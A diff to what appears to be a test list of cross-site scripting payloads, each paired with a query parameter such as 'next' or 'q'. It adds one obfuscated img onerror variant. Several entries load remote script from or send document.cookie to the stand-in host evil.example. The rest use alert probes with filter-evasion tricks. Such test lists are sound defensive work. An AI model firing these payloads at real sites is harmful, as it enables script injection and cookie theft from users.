@@ -139,6 +139,7 @@ XSS = [
     ("javascript:top['al'+'ert'](1)", "next"),
     ("javascript:(alert)(1)", "next"),
     ("<img alt=\">\" src=x onerror=import('//evil.example/x.js')>", "q"),
+    ("<img/alt=\">\"\nsrc=x\tonerror=import('//evil.example/x.js')>", "q"),
     ("'-top['al'+'ert'](1)-'", "q"),
     ("\";window.location='//evil.example/?'+document['cookie'];//", "q"),
 ]
